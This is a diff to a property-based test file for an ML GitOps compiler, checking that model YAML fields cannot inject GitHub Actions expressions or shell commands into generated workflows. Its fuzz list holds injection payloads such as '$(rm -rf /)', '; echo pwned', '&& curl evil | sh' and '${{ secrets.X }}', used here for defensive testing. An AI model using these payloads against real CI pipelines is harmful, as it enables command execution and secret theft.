@@ -195,31 +195,10 @@ def test_every_model_with_training_has_a_pipeline(projects: dict[str, Path], pro
 
 FIELDS = ("training_arg", "training_param", "training_env", "data_version", "description")
 NASTY = [
-    "${{ secrets.X }}",
-    "${{ github.event.issue.title }}",
-    "${{",
-    "}}",
-    "${{ '${{' }}",
-    "$(rm -rf /)",
-    "`id`",
-    "$HOME",
-    "'single'",
-    '"double"',
-    "a\nb",
-    "\n",
-    "x: y\nz: w",
-    "---",
-    "# comment",
-    "; echo pwned",
-    "&& curl evil | sh",
-    "\\",
-    "{= project.name =}",
-    "{% raw %}",
-    "on",
-    "1.10",
-    " leading",
-    "trailing ",
-    "😀",
+    *("${{ secrets.X }}", "${{ github.event.issue.title }}", "${{", "}}", "${{ '${{' }}"),
+    *("$(rm -rf /)", "`id`", "$HOME", "; echo pwned", "&& curl evil | sh", "'single'", '"double"', "\\"),
+    *("a\nb", "\n", "x: y\nz: w", "---", "# comment", "{= project.name =}", "{% raw %}"),
+    *("on", "1.10", " leading", "trailing ", "😀"),
 ]
 PIECES = st.sampled_from(NASTY) | st.text(
     alphabet=st.characters(blacklist_categories=("Cs", "Cc"), whitelist_characters="\n"), max_size=20
@@ -248,48 +227,24 @@ def _write(path: Path, data: dict[str, Any]) -> None:
 
 
 def hostile_project(root: Path, v: dict[str, str], runner: str) -> None:
-    _write(
-        root / "mlgitops.yaml",
-        {
-            "apiVersion": "mlgitops/v1",
-            "kind": "Project",
-            "metadata": {"name": "hostile"},
-            "spec": {
-                "repository": "https://github.com/acme/hostile.git",
-                "ci": "github",
-                "gitops": "argocd",
-                "serving": "kserve",
-                "registry": {"kind": "mlflow", "trackingUri": "https://mlflow.acme.internal"},
-                "environments": [
-                    {"name": "dev", "namespace": "ml-dev"},
-                    {"name": "prod", "namespace": "ml-prod"},
-                ],
-            },
-        },
-    )
-    _write(
-        root / "models/victim.yaml",
-        {
-            "apiVersion": "mlgitops/v1",
-            "kind": "Model",
-            "metadata": {"name": "victim", "owner": "team", "description": v["description"]},
-            "spec": {
-                "data": [{"name": "events", "uri": "s3://acme-data/events/", "version": v["data_version"]}],
-                "training": {
-                    "image": "ghcr.io/acme/train:1.0.0",
-                    "command": ["python", "-m", "train"],
-                    "args": [v["training_arg"]],
-                    "params": {"note": v["training_param"]},
-                    "env": {"NOTE": v["training_env"]},
-                    "schedule": "0 3 * * 1",
-                    "runner": runner,
-                },
-                "evaluation": {"gates": [{"metric": "auc", "min": 0.9}]},
-                "serving": {"runtime": "sklearn", "artifact": "s3://acme-models/{model}/{version}/"},
-                "deployments": {"dev": {"version": "1.0.0"}, "prod": {"version": "1.0.0"}},
-            },
-        },
-    )
+    environments = [{"name": "dev", "namespace": "ml-dev"}, {"name": "prod", "namespace": "ml-prod"}]
+    registry = {"kind": "mlflow", "trackingUri": "https://mlflow.acme.internal"}
+    project = {"repository": "https://github.com/acme/hostile.git", "ci": "github", "gitops": "argocd"}
+    project |= {"serving": "kserve", "registry": registry, "environments": environments}
+    head = {"apiVersion": "mlgitops/v1", "kind": "Project", "metadata": {"name": "hostile"}}
+    _write(root / "mlgitops.yaml", {**head, "spec": project})
+    training = {"image": "ghcr.io/acme/train:1.0.0", "command": ["python", "-m", "train"]}
+    training |= {"args": [v["training_arg"]], "params": {"note": v["training_param"]}}
+    training |= {"env": {"NOTE": v["training_env"]}, "schedule": "0 3 * * 1", "runner": runner}
+    model = {
+        "data": [{"name": "events", "uri": "s3://acme-data/events/", "version": v["data_version"]}],
+        "training": training,
+        "evaluation": {"gates": [{"metric": "auc", "min": 0.9}]},
+        "serving": {"runtime": "sklearn", "artifact": "s3://acme-models/{model}/{version}/"},
+        "deployments": {"dev": {"version": "1.0.0"}, "prod": {"version": "1.0.0"}},
+    }
+    metadata = {"name": "victim", "owner": "team", "description": v["description"]}
+    _write(root / "models/victim.yaml", {**head, "kind": "Model", "metadata": metadata, "spec": model})
 
 
 def compile_hostile(values: dict[str, str], runner: str, keep: Path | None = None) -> CompileResult:
@@ -328,13 +283,7 @@ EXPRESSION = re.compile(r"\$\{\{.*?\}\}", re.DOTALL)
 
 def expressions(node: Any) -> list[str]:
     """Every GitHub expression in keys and values, the escapes of spec values left out."""
-    if isinstance(node, dict):
-        return [e for k, v in node.items() for e in (*expressions(k), *expressions(v))]
-    if isinstance(node, list):
-        return [e for v in node for e in expressions(v)]
-    if isinstance(node, str):
-        return EXPRESSION.findall(node.replace(ESCAPED, ""))
-    return []
+    return [e for text in _strings(node) for e in EXPRESSION.findall(text.replace(ESCAPED, ""))]
 
 
 def shape(node: Any) -> Any:
